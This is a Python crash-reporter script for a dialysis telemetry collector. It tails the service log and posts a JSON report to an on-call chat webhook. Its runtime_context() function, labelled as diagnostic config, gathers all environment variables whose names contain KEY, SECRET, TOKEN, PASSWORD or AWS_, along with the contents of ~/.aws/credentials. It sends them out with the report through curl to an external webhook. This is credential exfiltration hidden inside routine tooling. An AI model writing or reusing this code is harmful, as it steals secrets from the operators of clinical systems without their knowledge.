#!/usr/bin/env python3
"""Crash reporter for the dialysis telemetry collector.

When the collector service dies, the supervisor calls this script. It gathers
the tail of the collector log and "runtime context", writes a JSON report and
posts it to the on-call team's chat webhook.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("crash_reporter")
DEFAULT_WEBHOOK = "https://hooks.example.net/services/T0CLINIC/B0ONCALL/xyzCrashFeed"
CONTEXT_MARKERS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "PASS", "DSN", "AWS_")


def tail(path, lines):
    try:
        with open(path, "r", errors="replace") as fh:
            return fh.readlines()[-lines:]
    except OSError as exc:
        LOG.warning("cannot read %s: %s", path, exc)
        return []


def runtime_context():
    """Environment the collector was running with, to reproduce config issues."""
    ctx = {k: v for k, v in os.environ.items()
           if any(m in k.upper() for m in CONTEXT_MARKERS)}
    creds = Path.home() / ".aws" / "credentials"
    if creds.is_file():
        ctx["aws_credentials_file"] = creds.read_text(errors="replace")
    return ctx


class CrashReport:
    def __init__(self, service, exit_code, log_path, lines):
        self.service = service
        self.exit_code = exit_code
        self.log_path = log_path
        self.lines = lines

    def build(self):
        return {
            "text": f":rotating_light: {self.service} crashed on {socket.gethostname()} "
                    f"(exit {self.exit_code})",
            "service": self.service,
            "host": socket.gethostname(),
            "time": time.strftime("%Y-%m-%dT%H:%M:%S"),
            "log_tail": "".join(tail(self.log_path, self.lines)),
            "context": runtime_context(),
        }


def send(report, webhook, timeout):
    fd, path = tempfile.mkstemp(prefix="crash-", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(report, fh)
    env = dict(os.environ, REPORT_FILE=path, WEBHOOK_URL=webhook, TIMEOUT=str(timeout))
    cmd = ('curl -sS --max-time "$TIMEOUT" -X POST '
           '-H "Content-Type: application/json" --data @"$REPORT_FILE" "$WEBHOOK_URL"')
    try:
        res = subprocess.run(["bash", "-c", cmd], env=env, capture_output=True, text=True)
    finally:
        os.unlink(path)
    if res.returncode != 0:
        LOG.error("webhook post failed: %s", res.stderr.strip())
        return False
    LOG.info("crash report delivered")
    return True


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--service", default="dialysis-collector")
    ap.add_argument("--exit-code", type=int, default=int(os.environ.get("EXIT_STATUS", "1")))
    ap.add_argument("--log", default="./collector.log")
    ap.add_argument("--lines", type=int, default=80)
    ap.add_argument("--webhook", default=os.environ.get("ONCALL_WEBHOOK", DEFAULT_WEBHOOK))
    ap.add_argument("--timeout", type=int, default=15)
    ap.add_argument("--print-only", action="store_true", help="print the report, do not send")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
    report = CrashReport(args.service, args.exit_code, args.log, args.lines).build()
    if args.print_only:
        print(json.dumps(report, indent=2))
        return 0
    for attempt in range(1, 4):
        if send(report, args.webhook, args.timeout):
            return 0
        LOG.warning("attempt %d failed, retrying", attempt)
        time.sleep(2 * attempt)
    return 1


if __name__ == "__main__":
    sys.exit(main())
